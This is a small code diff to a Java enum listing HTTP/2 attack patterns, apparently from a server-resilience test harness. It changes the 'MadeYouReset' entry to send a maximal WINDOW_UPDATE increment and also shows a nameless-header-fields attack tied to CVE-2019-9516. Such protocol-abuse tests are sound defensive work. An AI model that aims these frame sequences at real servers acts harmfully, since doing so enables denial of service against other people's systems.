@@ -13,7 +13,9 @@ enum Attack {
   MADE_YOU_RESET(
       "resets",
       (peer, turn) ->
-          peer.request(id(turn), peer.authority, "/held", true).frames.windowUpdate(id(turn), 0)),
+          peer.request(id(turn), peer.authority, "/held", true)
+              .frames
+              .windowUpdate(id(turn), Integer.MAX_VALUE)),
   /** Fields without a name (CVE-2019-9516). */
   NAMELESS_FIELDS(
       "resets", (peer, turn) -> peer.request(id(turn), peer.authority, "/", true, "", "")),
